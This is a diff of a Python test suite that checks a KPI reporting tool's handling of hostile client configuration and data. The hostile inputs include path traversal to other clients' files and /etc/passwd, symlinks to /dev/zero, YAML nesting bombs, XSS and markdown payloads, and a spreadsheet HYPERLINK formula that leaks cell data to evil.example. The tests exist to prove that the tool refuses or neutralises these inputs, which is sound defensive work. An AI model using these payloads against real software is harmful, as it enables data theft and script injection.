-         "from the flag's folder", {PARAMS: _params(), "elders/acme/data.csv": SIMPLE}, 0,
-         args=("--data-root", "{root}/elders")),
+    Case(
+        "source_other_clients_file",
+        "`source: ../victim/data.csv` (another client's data folder)",
+        "exit 1; refused ('..'), names the source and the client's own folder; nothing of the victim's file shown",
+        {PARAMS: _params(data=_data(source="../victim/data.csv")), **VICTIM},
+        1,
+        (("params/acme.yaml:", "../victim/data.csv", REFUSED, "'..'", OWN_FOLDER),),
+        forbidden=(SECRET,),
+    ),
+    Case(
+        "source_absolute_path",
+        "`source: /etc/passwd`",
+        "exit 1; refused (absolute path); no line of the file echoed",
+        {PARAMS: _params(data=_data(source="/etc/passwd"))},
+        1,
+        (("params/acme.yaml:", "/etc/passwd", REFUSED, "absolute path"),),
+        forbidden=("root:", "/bin/"),
+    ),
+    Case(
+        "source_home_path",
+        "`source: ~/secret.csv`",
+        "exit 1; refused (absolute path)",
+        {PARAMS: _params(data=_data(source="~/secret.csv"))},
+        1,
+        (("params/acme.yaml:", REFUSED, "absolute path"),),
+    ),
+    Case(
+        "source_params_folder",
+        "`source: ../../params/victim.yaml` (the params folder is not a data folder)",
+        "exit 1; refused ('..')",
+        {PARAMS: _params(data=_data(source="../../params/victim.yaml")), **VICTIM},
+        1,
+        (("params/acme.yaml:", REFUSED, "'..'"),),
+        forbidden=(SECRET,),
+    ),
+    Case(
+        "source_symlink_to_other_client",
+        "`data/acme/data.csv` is a symlink to `data/victim/data.csv`",
+        "exit 1; refused (symlink pointing out); victim's data not shown",
+        {PARAMS: _params(), **VICTIM, "data.csv": _symlink("data/victim/data.csv")},
+        1,
+        (("params/acme.yaml:", "data.csv", REFUSED, "symlink"),),
+        forbidden=(SECRET,),
+    ),
+    Case(
+        "source_symlink_dir_out",
+        "`data/acme/shared` is a symlink to a folder outside, `source: shared/x.csv`",
+        "exit 1; refused (leads outside)",
+        {
+            PARAMS: _params(data=_data(source="shared/x.csv")),
+            "outside/x.csv": SECRET_CSV,
+            "data/acme/shared": _symlink("outside"),
+        },
+        1,
+        (("params/acme.yaml:", "shared/x.csv", REFUSED, "outside"),),
+        forbidden=(SECRET,),
+    ),
+    Case(
+        "source_dev_zero",
+        "`source: /dev/zero` and a `data.csv` symlink to it",
+        "exit 1 at once; both refused, memory stays flat",
+        {PARAMS: _params(data="[{source: /dev/zero}, {source: zero.csv}]"), "zero.csv": _symlink("/dev/zero")},
+        1,
+        (("params/acme.yaml:", "/dev/zero", REFUSED), ("params/acme.yaml:", "zero.csv", REFUSED)),
+    ),
+    Case(
+        "source_fifo",
+        "`data/acme/data.csv` is a FIFO (a reader would wait forever)",
+        "exit 1 at once; refused (not a regular file)",
+        {PARAMS: _params(), "data.csv": _fifo},
+        1,
+        (("params/acme.yaml:", "data.csv", REFUSED, "FIFO"),),
+    ),
+    Case(
+        "source_dev_stdin",
+        "`source: /dev/stdin`",
+        "exit 1 at once; refused (absolute path)",
+        {PARAMS: _params(data=_data(source="/dev/stdin"))},
+        1,
+        (("params/acme.yaml:", "/dev/stdin", REFUSED),),
+    ),
+    Case(
+        "source_in_own_folder",
+        "`source: sub/data.csv` inside `data/acme/`",
+        "exit 0; read from the client's own folder",
+        {PARAMS: _params(data=_data(source="sub/data.csv")), "data/acme/sub/data.csv": SIMPLE},
+        0,
+        check=_revenue(30.5, 40.0),
+    ),
+    Case(
+        "data_root_in_agency_file",
+        "`params/_agency.yaml` sets `data_root: ../klantdata`",
+        "exit 0; `klantdata/acme/data.csv` is read",
+        {PARAMS: _params(), "_agency.yaml": "data_root: ../klantdata\n", "klantdata/acme/data.csv": SIMPLE},
+        0,
+        check=_revenue(30.5, 40.0),
+    ),
+    Case(
+        "data_root_flag",
+        "`validate --data-root {root}/elders` with the data in `elders/acme/`",
+        "exit 0; read from the flag's folder",
+        {PARAMS: _params(), "elders/acme/data.csv": SIMPLE},
+        0,
+        args=("--data-root", "{root}/elders"),
+    ),
     # ------------------------------------------------------------ identity: the id is the file name
-    Case("client_id_takeover", "`acme.yaml` says `client: victim` next to the real `victim.yaml`", "exit 1 for "
-         "acme.yaml only (the id is the file name); victim stays valid",
-         {PARAMS: _params(client="victim"), **VICTIM}, 1,
-         (("params/acme.yaml:", "client:", "'victim' is not this file's client", "'acme'"),)),
-    Case("client_id_from_file_name", "a params file without `client:`", "exit 0; the id is the file name",
-         {PARAMS: _params().replace("client: acme\n", ""), "data.csv": SIMPLE}, 0, check=_revenue(30.5, 40.0)),
+    Case(
+        "client_id_takeover",
+        "`acme.yaml` says `client: victim` next to the real `victim.yaml`",
+        "exit 1 for acme.yaml only (the id is the file name); victim stays valid",
+        {PARAMS: _params(client="victim"), **VICTIM},
+        1,
+        (("params/acme.yaml:", "client:", "'victim' is not this file's client", "'acme'"),),
+    ),
+    Case(
+        "client_id_from_file_name",
+        "a params file without `client:`",
+        "exit 0; the id is the file name",
+        {PARAMS: _params().replace("client: acme\n", ""), "data.csv": SIMPLE},
+        0,
+        check=_revenue(30.5, 40.0),
+    ),
     # ------------------------------------------------------------ limits
-    Case("params_symlink_dev_zero", "`params/acme.yaml` is a symlink to /dev/zero", "exit 1 at once; refused "
-         "(a device), no MemoryError", {PARAMS: _symlink("/dev/zero")}, 1,
-         (("params/acme.yaml:", REFUSED, "device"),)),
-    Case("params_fifo", "`params/acme.yaml` is a FIFO", "exit 1 at once; refused (FIFO)", {PARAMS: _fifo}, 1,
-         (("params/acme.yaml:", REFUSED, "FIFO"),)),
-    Case("params_too_big", "a 5 MB `name` (params file over the 256 KB cap)", "exit 1; the size and the limit; "
-         "the name is not echoed",
-         {PARAMS: _params(name="N" * 5_000_000)}, 1,
-         (("params/acme.yaml:", "bytes, more than the limit", "params_bytes"),), forbidden=("N" * 100,)),
-    Case("long_name_not_echoed", "a 100 KB `name` (under the size cap)", "exit 1; at most 200 characters; the "
-         "value is cut to a few dozen characters", {PARAMS: _params(name="N" * 100_000), "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "name", "200 characters"),), forbidden=("N" * 100,)),
-    Case("yaml_deep_nesting", "20,000 `[` in `name`, next to a good client `beta`", "exit 1 for acme only "
-         "(nesting limit, no RecursionError); beta still valid",
-         {PARAMS: _nested(20_000), **OTHER_CLIENT_OK}, 1,
-         (("params/acme.yaml:", "not valid YAML", "nested more than"),)),
-    Case("yaml_duplicate_keys", "`name:` given twice", "exit 1; line of both keys (the last one no longer "
-         "silently wins)", {PARAMS: _params() + 'name: "Other Name"\n', "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "not valid YAML", "'name' appears twice", "line"),)),
-    Case("data_rows_cap", "`limits: {data_rows: 5}` in `_agency.yaml`, a 10-row data file", "exit 1; names the "
-         "file and the limit",
-         {PARAMS: _params(), "_agency.yaml": "limits: {data_rows: 5}\n", "data.csv": daily_rows(days=10, campaigns=("a",))},
-         1, (("params/acme.yaml:", "data/acme/data.csv", "more than 5 data rows", "data_rows"),)),
-    Case("data_bytes_cap", "`limits: {data_bytes: 100}` and a 3 KB data file", "exit 1 before reading; names "
-         "the size and the limit",
-         {PARAMS: _params(), "_agency.yaml": "limits: {data_bytes: 100}\n", "data.csv": daily_rows(days=30, campaigns=("a",))},
-         1, (("params/acme.yaml:", "data.csv", "more than the limit of 100", "data_bytes"),)),
-    Case("agency_file_invalid", "`_agency.yaml` with `limits: {data_rows: many}`", "exit 1; names _agency.yaml "
-         "and the field", {PARAMS: _params(), "_agency.yaml": "limits: {data_rows: many}\n", "data.csv": SIMPLE},
-         1, (("params/_agency.yaml:", "limits.data_rows", "not a positive whole number"),)),
+    Case(
+        "params_symlink_dev_zero",
+        "`params/acme.yaml` is a symlink to /dev/zero",
+        "exit 1 at once; refused (a device), no MemoryError",
+        {PARAMS: _symlink("/dev/zero")},
+        1,
+        (("params/acme.yaml:", REFUSED, "device"),),
+    ),
+    Case(
+        "params_fifo",
+        "`params/acme.yaml` is a FIFO",
+        "exit 1 at once; refused (FIFO)",
+        {PARAMS: _fifo},
+        1,
+        (("params/acme.yaml:", REFUSED, "FIFO"),),
+    ),
+    Case(
+        "params_too_big",
+        "a 5 MB `name` (params file over the 256 KB cap)",
+        "exit 1; the size and the limit; the name is not echoed",
+        {PARAMS: _params(name="N" * 5_000_000)},
+        1,
+        (("params/acme.yaml:", "bytes, more than the limit", "params_bytes"),),
+        forbidden=("N" * 100,),
+    ),
+    Case(
+        "long_name_not_echoed",
+        "a 100 KB `name` (under the size cap)",
+        "exit 1; at most 200 characters; the value is cut to a few dozen characters",
+        {PARAMS: _params(name="N" * 100_000), "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "name", "200 characters"),),
+        forbidden=("N" * 100,),
+    ),
+    Case(
+        "yaml_deep_nesting",
+        "20,000 `[` in `name`, next to a good client `beta`",
+        "exit 1 for acme only (nesting limit, no RecursionError); beta still valid",
+        {PARAMS: _nested(20_000), **OTHER_CLIENT_OK},
+        1,
+        (("params/acme.yaml:", "not valid YAML", "nested more than"),),
+    ),
+    Case(
+        "yaml_duplicate_keys",
+        "`name:` given twice",
+        "exit 1; line of both keys (the last one no longer silently wins)",
+        {PARAMS: _params() + 'name: "Other Name"\n', "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "not valid YAML", "'name' appears twice", "line"),),
+    ),
+    Case(
+        "data_rows_cap",
+        "`limits: {data_rows: 5}` in `_agency.yaml`, a 10-row data file",
+        "exit 1; names the file and the limit",
+        {
+            PARAMS: _params(),
+            "_agency.yaml": "limits: {data_rows: 5}\n",
+            "data.csv": daily_rows(days=10, campaigns=("a",)),
+        },
+        1,
+        (("params/acme.yaml:", "data/acme/data.csv", "more than 5 data rows", "data_rows"),),
+    ),
+    Case(
+        "data_bytes_cap",
+        "`limits: {data_bytes: 100}` and a 3 KB data file",
+        "exit 1 before reading; names the size and the limit",
+        {
+            PARAMS: _params(),
+            "_agency.yaml": "limits: {data_bytes: 100}\n",
+            "data.csv": daily_rows(days=30, campaigns=("a",)),
+        },
+        1,
+        (("params/acme.yaml:", "data.csv", "more than the limit of 100", "data_bytes"),),
+    ),
+    Case(
+        "agency_file_invalid",
+        "`_agency.yaml` with `limits: {data_rows: many}`",
+        "exit 1; names _agency.yaml and the field",
+        {PARAMS: _params(), "_agency.yaml": "limits: {data_rows: many}\n", "data.csv": SIMPLE},
+        1,
+        (("params/_agency.yaml:", "limits.data_rows", "not a positive whole number"),),
+    ),
 ]
 CASES += TRUST_CASES
 
-EXTRA_ROWS = ["index_html_escaping", "markdown_links_images_inert", "plotly_labels_inert",
-              "export_formulas_inert_csv", "export_formulas_inert_xlsx", "run_hostile_names_escaped", "run_client_id_traversal",
-              "run_reserved_client_id", "run_exit_status"]
+EXTRA_ROWS = [
+    "index_html_escaping",
+    "markdown_links_images_inert",
+    "plotly_labels_inert",
+    "export_formulas_inert_csv",
+    "export_formulas_inert_xlsx",
+    "run_hostile_names_escaped",
+    "run_client_id_traversal",
+    "run_reserved_client_id",
+    "run_exit_status",
+]
 
 
 # ---------------------------------------------------------------- running one case
@@ -568,8 +918,9 @@ def test_hostile_input(case: Case, tmp_path: Path, record) -> None:
         assert code in allowed, f"exit {code}, expected {case.exit}:\n{text}"
         if code != 0:
             assert errors, f"no error line names the file:\n{text}"
-            assert all(line.startswith((f"params/{PARAMS}:", "params/_agency.yaml:")) for line in errors), \
+            assert all(line.startswith((f"params/{PARAMS}:", "params/_agency.yaml:")) for line in errors), (
                 "every line names the params file"
+            )
         for words in case.lines:
             assert any(all(w in line for w in words) for line in lines), f"no line with {words}:\n{text}"
         for secret in case.forbidden:
@@ -596,15 +947,28 @@ def test_index_escapes_names_statements_findings_and_reasons(tmp_path: Path, rec
     from kpi_helpers.run.batch import BatchResult, ClientResult
     from kpi_helpers.run.report import write_index
 
-    row = record("index_html_escaping", "`write_index` with `<script>` in client name, goal statement, finding "
-                 "and failure reason", "no raw markup in reports/index.html; text shown escaped")
-    summary = {"language": "en", "currency": "EUR", "kpis": {},
-               "goals": [{"status": "at_risk", "statement": SCRIPT_GOAL, "kpi": "revenue"}],
-               "findings": [{"rank": 1, "message": {"en": SCRIPT_CAMPAIGN, "nl": SCRIPT_CAMPAIGN}}]}
-    batch = BatchResult(out_dir=tmp_path, seconds=1.0, results=[
-        ClientResult("good", "ok", "params/good.yaml", name=SCRIPT_NAME, summary=summary, report="good/report.html"),
-        ClientResult("bad", "failed", f"params/{SCRIPT_NAME}.yaml", name=HOSTILE_NAME, reason=SCRIPT_CAMPAIGN),
-    ])
+    row = record(
+        "index_html_escaping",
+        "`write_index` with `<script>` in client name, goal statement, finding and failure reason",
+        "no raw markup in reports/index.html; text shown escaped",
+    )
+    summary = {
+        "language": "en",
+        "currency": "EUR",
+        "kpis": {},
+        "goals": [{"status": "at_risk", "statement": SCRIPT_GOAL, "kpi": "revenue"}],
+        "findings": [{"rank": 1, "message": {"en": SCRIPT_CAMPAIGN, "nl": SCRIPT_CAMPAIGN}}],
+    }
+    batch = BatchResult(
+        out_dir=tmp_path,
+        seconds=1.0,
+        results=[
+            ClientResult(
+                "good", "ok", "params/good.yaml", name=SCRIPT_NAME, summary=summary, report="good/report.html"
+            ),
+            ClientResult("bad", "failed", f"params/{SCRIPT_NAME}.yaml", name=HOSTILE_NAME, reason=SCRIPT_CAMPAIGN),
+        ],
+    )
     page = write_index(batch).read_text(encoding="utf-8")
     try:
         for raw in (SCRIPT_NAME, SCRIPT_GOAL, SCRIPT_CAMPAIGN, "<img", "<script>"):
@@ -619,9 +983,14 @@ def test_index_escapes_names_statements_findings_and_reasons(tmp_path: Path, rec
 
 # ---------------------------------------------------------------- untrusted text is text (issue 16.3, fast)
 
-MARKDOWN_PAYLOADS = ("![p](http://tracker.example/px.png)", "[click](javascript:alert(1))", "<http://evil.example>",
-                     "see http://evil.example/x and www.evil.example, mail a@evil.example",
-                     "[ref]\n\n[ref]: http://evil.example/ref", "<img src=x onerror=alert(1)>")
+MARKDOWN_PAYLOADS = (
+    "![p](http://tracker.example/px.png)",
+    "[click](javascript:alert(1))",
+    "<http://evil.example>",
+    "see http://evil.example/x and www.evil.example, mail a@evil.example",
+    "[ref]\n\n[ref]: http://evil.example/ref",
+    "<img src=x onerror=alert(1)>",
+)
 LINK_LABEL = '<a href="http://evil.example/x">click me</a>'
 HUGE_LABEL = '<span style="font-size:900px">HUGE</span>'
 
@@ -630,8 +999,8 @@ def _markdown_report_body(text: str) -> str:
     """`show_markdown(text)` as it lands in report.html (nbconvert's Markdown renderer)."""
     import nbformat
 
-    from kpi_helpers.views.display import escape_markdown_html
     from kpi_helpers.run.report import _body_of
+    from kpi_helpers.views.display import escape_markdown_html
 
     nb = nbformat.v4.new_notebook()
     cell = nbformat.v4.new_code_cell("show_markdown(...)")
@@ -641,13 +1010,20 @@ def _markdown_report_body(text: str) -> str:
 
 
 def test_markdown_from_params_makes_no_links_or_images(record) -> None:
-    row = record("markdown_links_images_inert", "client name / owner / goal statement with `![p](http://…/px.png)`, "
-                 "`[x](javascript:…)`, autolinks, a reference link and `<img>`", "report.html shows the text; no "
-                 "`<a>`, no `<img>` (no tracking pixel, no script on click)")
+    row = record(
+        "markdown_links_images_inert",
+        "client name / owner / goal statement with `![p](http://…/px.png)`, "
+        "`[x](javascript:…)`, autolinks, a reference link and `<img>`",
+        "report.html shows the text; no `<a>`, no `<img>` (no tracking pixel, no script on click)",
+    )
     try:
         for payload in MARKDOWN_PAYLOADS:
             body = _markdown_report_body(f"# Acme {payload}\n\n1. **Act:** {payload}")
-            links = [a for a in re.findall(r"<a [^>]*>", body) if not re.fullmatch(r'<a class="anchor-link" href="#[^"]*">', a)]
+            links = [
+                a
+                for a in re.findall(r"<a [^>]*>", body)
+                if not re.fullmatch(r'<a class="anchor-link" href="#[^"]*">', a)
+            ]
             assert not links and "<img" not in body, f"{payload!r} became live: {links}"
             assert "javascript:alert" not in body or "[click](javascript:alert(1))" in body
         body = _markdown_report_body("**Act:** raise the budget")
@@ -661,26 +1037,43 @@ def test_markdown_from_params_makes_no_links_or_images(record) -> None:
 def test_plotly_labels_from_data_are_text(record) -> None:
     import plotly.graph_objects as go
 
+    from kpi_helpers.compute.engine import compute_kpis
     from kpi_helpers.views.charts import channel_breakdown
     from kpi_helpers.views.display import PLOTLY_MIME, figure_bundle
-    from kpi_helpers.compute.engine import compute_kpis
 
-    row = record("plotly_labels_inert", f"campaign labels `{LINK_LABEL}` and `{HUGE_LABEL}` in a breakdown chart, "
-                 "a trace name, a title and tick labels", "the chart (HTML and plotly JSON) shows them as text: "
-                 "no `<a href>`, no `<span style>`; our own `<b>`/`<br>` markup kept")
+    row = record(
+        "plotly_labels_inert",
+        f"campaign labels `{LINK_LABEL}` and `{HUGE_LABEL}` in a breakdown chart, "
+        "a trace name, a title and tick labels",
+        "the chart (HTML and plotly JSON) shows them as text: "
+        "no `<a href>`, no `<span style>`; our own `<b>`/`<br>` markup kept",
+    )
     facts = load_facts(_hostile_config(campaigns=(LINK_LABEL, HUGE_LABEL, "plain")))
     table = compute_kpis(facts, ["revenue"], grain=None, by="campaign")
     chart = channel_breakdown(table, "revenue", by="campaign")
-    own = go.Figure(go.Bar(x=[LINK_LABEL, "b"], y=[1, 2], name=HUGE_LABEL, text=[LINK_LABEL, "t"],
-                           hovertemplate="%{x}<br>%{y}<extra></extra>"),
-                    layout={"title": {"text": f"<b>Acme</b><br>{LINK_LABEL}"},
-                            "xaxis": {"tickvals": [0], "ticktext": [HUGE_LABEL]}})
+    own = go.Figure(
+        go.Bar(
+            x=[LINK_LABEL, "b"],
+            y=[1, 2],
+            name=HUGE_LABEL,
+            text=[LINK_LABEL, "t"],
+            hovertemplate="%{x}<br>%{y}<extra></extra>",
+        ),
+        layout={
+            "title": {"text": f"<b>Acme</b><br>{LINK_LABEL}"},
+            "xaxis": {"tickvals": [0], "ticktext": [HUGE_LABEL]},
+        },
+    )
     try:
         for fig in (chart, own):
             bundle = figure_bundle(fig)
             for text in (bundle["text/html"], json.dumps(bundle[PLOTLY_MIME])):
-                for live in ('<a href="http://evil', "<a href=\\\"http://evil", "<span style=\\\"font-size:900px",
-                             '<span style="font-size:900px'):
+                for live in (
+                    '<a href="http://evil',
+                    '<a href=\\"http://evil',
+                    '<span style=\\"font-size:900px',
+                    '<span style="font-size:900px',
+                ):
                     assert live not in text, f"live markup {live!r} in the figure"
             assert "&lt;a href=" in json.dumps(bundle[PLOTLY_MIME]), "the label is shown (escaped), not dropped"
         spec = json.dumps(figure_bundle(own)[PLOTLY_MIME])
@@ -692,26 +1085,35 @@ def test_plotly_labels_from_data_are_text(record) -> None:
 
 
 def _hostile_config(campaigns: tuple[str, ...]) -> Any:
-    from types import SimpleNamespace
     import tempfile
+    from types import SimpleNamespace
 
     folder = Path(tempfile.mkdtemp(prefix="kpi-hostile-"))
     (folder / "data.csv").write_text(daily_rows(days=20, campaigns=campaigns), encoding="utf-8")
-    return SimpleNamespace(data=[{"source": "data.csv", "shape": "daily"}], period=None, base_dir=folder,
-                           source_file=None)
+    return SimpleNamespace(
+        data=[{"source": "data.csv", "shape": "daily"}], period=None, base_dir=folder, source_file=None
+    )
 
 
-FORMULA_CAMPAIGNS = ('=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+1+2", "-3+4", "@SUM(A1)",
-                     "\tTAB", "plain")  # a CR in a CSV field ends the line for the reader: unit-tested below
+FORMULA_CAMPAIGNS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+    "+1+2",
+    "-3+4",
+    "@SUM(A1)",
+    "\tTAB",
+    "plain",
+)  # a CR in a CSV field ends the line for the reader: unit-tested below
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
 def test_kpis_export_writes_no_live_formulas(tmp_path: Path, suffix: str, record) -> None:
-    row = record(f"export_formulas_inert{suffix.replace('.', '_')}", f"`kpis --by campaign --out x{suffix}` with "
-                 "campaigns `=HYPERLINK(…)`, `+…`, `-…`, `@…` and a leading tab (CR: unit test)", "every such cell starts with `'` "
-                 "(text, not a formula); numbers untouched")
-    files = {PARAMS: _params(kpis=("revenue", "orders")),
-             "data.csv": daily_rows(days=20, campaigns=FORMULA_CAMPAIGNS)}
+    row = record(
+        f"export_formulas_inert{suffix.replace('.', '_')}",
+        f"`kpis --by campaign --out x{suffix}` with "
+        "campaigns `=HYPERLINK(…)`, `+…`, `-…`, `@…` and a leading tab (CR: unit test)",
+        "every such cell starts with `'` (text, not a formula); numbers untouched",
+    )
+    files = {PARAMS: _params(kpis=("revenue", "orders")), "data.csv": daily_rows(days=20, campaigns=FORMULA_CAMPAIGNS)}
     _write(tmp_path, files, tmp_path / "PWNED")
     out = tmp_path / f"x{suffix}"
     code, output = _cli(["kpis", str(tmp_path / "params" / PARAMS), "--by", "campaign", "--out", str(out)])
@@ -757,38 +1159,59 @@ def run_cli_batch(params: Path, out: Path, monkeypatch: pytest.MonkeyPatch, work
 
     real = batch.run_batch
     monkeypatch.setattr(batch, "run_batch", run_batch)
-    code, output = _cli(["run", "--params", str(params), "--out", str(out), "--workers", str(workers),
-                         "--timeout", "300", "--quiet"])
+    code, output = _cli(
+        ["run", "--params", str(params), "--out", str(out), "--workers", str(workers), "--timeout", "300", "--quiet"]
+    )
     return code, output, results[0] if results else None
 
 
 @pytest.mark.slow
 def test_run_batch_with_hostile_clients(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, record) -> None:
     rows = {
-        "run_hostile_names_escaped": record("run_hostile_names_escaped", "`run`: client with `<script>`, quotes, "
-                                            "newline and payloads in name, goal statement and campaign labels",
-                                            "report ok; index.html and report.html show them escaped; nothing runs"),
-        "run_client_id_traversal": record("run_client_id_traversal", "`run`: a params file with `client: ../escape`",
-                                          "invalid; no path outside the output folder"),
-        "run_reserved_client_id": record("run_reserved_client_id", "`run`: `client: _failed` next to a client whose "
-                                         "run fails", "invalid (reserved id); the failed run stays inspectable"),
-        "run_exit_status": record("run_exit_status", "`run` where some clients fail", "exit 1; summary names the "
-                                  "failed clients; no traceback"),
+        "run_hostile_names_escaped": record(
+            "run_hostile_names_escaped",
+            "`run`: client with `<script>`, quotes, newline and payloads in name, goal statement and campaign labels",
+            "report ok; index.html and report.html show them escaped; nothing runs",
+        ),
+        "run_client_id_traversal": record(
+            "run_client_id_traversal",
+            "`run`: a params file with `client: ../escape`",
+            "invalid; no path outside the output folder",
+        ),
+        "run_reserved_client_id": record(
+            "run_reserved_client_id",
+            "`run`: `client: _failed` next to a client whose run fails",
+            "invalid (reserved id); the failed run stays inspectable",
+        ),
+        "run_exit_status": record(
+            "run_exit_status", "`run` where some clients fail", "exit 1; summary names the failed clients; no traceback"
+        ),
     }
     params, out, marker = tmp_path / "params", tmp_path / "reports", tmp_path / "PWNED"
-    _write(tmp_path, {
-        "hostile.yaml": client_yaml(client="hostile", name=HOSTILE_NAME, kpis=("revenue", "orders", "average_order_value",
-                                                                              "conversion_rate"),
-                                    goals=[revenue_goal(statement=HOSTILE_STATEMENT, target=20000.0)],
-                                    extra="pairs: [[orders, average_order_value]]\n"),
-        "data/hostile/data.csv": daily_rows(days=120, campaigns=HOSTILE_CAMPAIGNS),
-        "escape.yaml": client_yaml(client="../escape", name="Escape"),
-        "reserved.yaml": client_yaml(client="_failed", name="Reserved Name"),
-        # validates today but cannot run (conversion_rate needs sessions): a client that fails
-        "broken.yaml": client_yaml(client="broken", name="Broken Client", data={"source": "simple.csv"},
-                                   kpis=("revenue", "conversion_rate")),
-        "data/broken/simple.csv": SIMPLE,
-    }, marker)
+    _write(
+        tmp_path,
+        {
+            "hostile.yaml": client_yaml(
+                client="hostile",
+                name=HOSTILE_NAME,
+                kpis=("revenue", "orders", "average_order_value", "conversion_rate"),
+                goals=[revenue_goal(statement=HOSTILE_STATEMENT, target=20000.0)],
+                extra="pairs: [[orders, average_order_value]]\n",
+            ),
+            "data/hostile/data.csv": daily_rows(days=120, campaigns=HOSTILE_CAMPAIGNS),
+            "escape.yaml": client_yaml(client="../escape", name="Escape"),
+            "reserved.yaml": client_yaml(client="_failed", name="Reserved Name"),
+            # validates today but cannot run (conversion_rate needs sessions): a client that fails
+            "broken.yaml": client_yaml(
+                client="broken",
+                name="Broken Client",
+                data={"source": "simple.csv"},
+                kpis=("revenue", "conversion_rate"),
+            ),
+            "data/broken/simple.csv": SIMPLE,
+        },
+        marker,
+    )
     outside_before = _tree(tmp_path) - {p for p in _tree(tmp_path) if p.startswith("reports")}
 
     code, output, result = run_cli_batch(params, out, monkeypatch, workers=4)
@@ -822,7 +1245,8 @@ def test_run_batch_with_hostile_clients(tmp_path: Path, monkeypatch: pytest.Monk
         r = next((r for r in result.results if r.params_file.endswith("reserved.yaml")), None)
         assert r is not None and r.status == "invalid", (
             f"client id '_failed' was accepted ({r.status if r else 'missing'}): its report replaces reports/_failed/, "
-            "where failed runs of other clients are kept")
+            "where failed runs of other clients are kept"
+        )
         broken = status["broken"]
         assert not broken.ok
         if broken.failed_notebook:
@@ -835,8 +1259,12 @@ def test_run_batch_with_hostile_clients(tmp_path: Path, monkeypatch: pytest.Monk
         assert "FAILED broken" in output and "FAILED escape" in output, output
         return f"exit {code}; FAILED lines for the failing clients"
 
-    checks: dict[str, Callable[[], str]] = {"run_hostile_names_escaped": hostile, "run_client_id_traversal": traversal,
-              "run_reserved_client_id": reserved, "run_exit_status": exit_status}
+    checks: dict[str, Callable[[], str]] = {
+        "run_hostile_names_escaped": hostile,
+        "run_client_id_traversal": traversal,
+        "run_reserved_client_id": reserved,
+        "run_exit_status": exit_status,
+    }
     failures = []
     for key, check in checks.items():
         try:
@@ -858,9 +1286,18 @@ def test_every_formula_prefix_is_neutralised(cell: str) -> None:
 
 # ---------------------------------------------------------------- the output folder is the tool's own (issue 16.5, 16.8)
 
-OUTPUT_ROWS = ["out_folder_foreign_files", "out_folder_foreign_index", "out_folder_client_id_is_foreign_folder",
-               "out_folder_locked", "disk_full", "read_only_output", "run_kill_9", "run_ctrl_c",
-               "run_concurrent", "kernel_start_retried"]
+OUTPUT_ROWS = [
+    "out_folder_foreign_files",
+    "out_folder_foreign_index",
+    "out_folder_client_id_is_foreign_folder",
+    "out_folder_locked",
+    "disk_full",
+    "read_only_output",
+    "run_kill_9",
+    "run_ctrl_c",
+    "run_concurrent",
+    "kernel_start_retried",
+]
 EXTRA_ROWS += OUTPUT_ROWS
 
 
@@ -886,9 +1323,11 @@ def _checked(row: Row, observed: str, check: Callable[[], str]) -> None:
 
 
 def test_run_refuses_a_non_empty_folder_it_did_not_write(tmp_path: Path, monkeypatch, record) -> None:
-    row = record("out_folder_foreign_files", "`run --out` a folder holding the user's `notes.txt`, `index.html` and "
-                 "`.staging/keep.txt` (no marker)", "exit 1 before anything runs; names the folder and the marker; "
-                 "every file untouched")
+    row = record(
+        "out_folder_foreign_files",
+        "`run --out` a folder holding the user's `notes.txt`, `index.html` and `.staging/keep.txt` (no marker)",
+        "exit 1 before anything runs; names the folder and the marker; every file untouched",
+    )
     params, out = _one_client_params(tmp_path), tmp_path / "mine"
     (out / ".staging").mkdir(parents=True)
     (out / "notes.txt").write_text("my notes")
@@ -907,8 +1346,11 @@ def test_run_refuses_a_non_empty_folder_it_did_not_write(tmp_path: Path, monkeyp
 
 
 def test_run_never_overwrites_a_foreign_index_html(tmp_path: Path, monkeypatch, record) -> None:
-    row = record("out_folder_foreign_index", "a marked output folder where the user put their own `index.html`",
-                 "exit 1; names index.html; the user's file untouched")
+    row = record(
+        "out_folder_foreign_index",
+        "a marked output folder where the user put their own `index.html`",
+        "exit 1; names index.html; the user's file untouched",
+    )
     params, out = _one_client_params(tmp_path), tmp_path / "reports"
     out.mkdir()
     (out / ".kpi-workbook").write_text("")
@@ -925,9 +1367,11 @@ def test_run_never_overwrites_a_foreign_index_html(tmp_path: Path, monkeypatch, 
 
 
 def test_a_client_id_equal_to_a_foreign_folder_never_replaces_it(tmp_path: Path, monkeypatch, record) -> None:
-    row = record("out_folder_client_id_is_foreign_folder", "client `notes` while the (marked) output folder holds "
-                 "the user's own `notes/todo.txt`", "client failed with a clear reason; `notes/` untouched; "
-                 "listed in index.html")
+    row = record(
+        "out_folder_client_id_is_foreign_folder",
+        "client `notes` while the (marked) output folder holds the user's own `notes/todo.txt`",
+        "client failed with a clear reason; `notes/` untouched; listed in index.html",
+    )
     params, out = _one_client_params(tmp_path, "notes", "Notes BV"), tmp_path / "reports"
     (out / "notes").mkdir(parents=True)
     (out / ".kpi-workbook").write_text("")
@@ -948,8 +1392,11 @@ def test_a_client_id_equal_to_a_foreign_folder_never_replaces_it(tmp_path: Path,
 def test_a_second_run_on_a_locked_folder_exits_with_a_clear_message(tmp_path: Path, monkeypatch, record) -> None:
     from kpi_helpers.run.outdir import RunLock
 
-    row = record("out_folder_locked", "`run` while another run holds the output folder's lock",
-                 "exit 1 at once: another run (pid) is writing there; nothing written")
+    row = record(
+        "out_folder_locked",
+        "`run` while another run holds the output folder's lock",
+        "exit 1 at once: another run (pid) is writing there; nothing written",
+    )
     params, out = _one_client_params(tmp_path), tmp_path / "reports"
     out.mkdir()
     (out / ".kpi-workbook").write_text("")
@@ -973,8 +1420,11 @@ def test_a_full_disk_is_a_clear_error_without_half_written_files(tmp_path: Path,
 
     import kpi_helpers.run.outdir as outdir
 
-    row = record("disk_full", "`run` where writing index.html fails with ENOSPC (disk full)", "exit 1; 'the disk "
-                 "is full'; no traceback; no 0-byte or temporary file left")
+    row = record(
+        "disk_full",
+        "`run` where writing index.html fails with ENOSPC (disk full)",
+        "exit 1; 'the disk is full'; no traceback; no 0-byte or temporary file left",
+    )
     params = tmp_path / "params"
     params.mkdir()
     (params / "broken.yaml").write_text("name: [unclosed\n")  # invalid: no kernel, only the overview is written
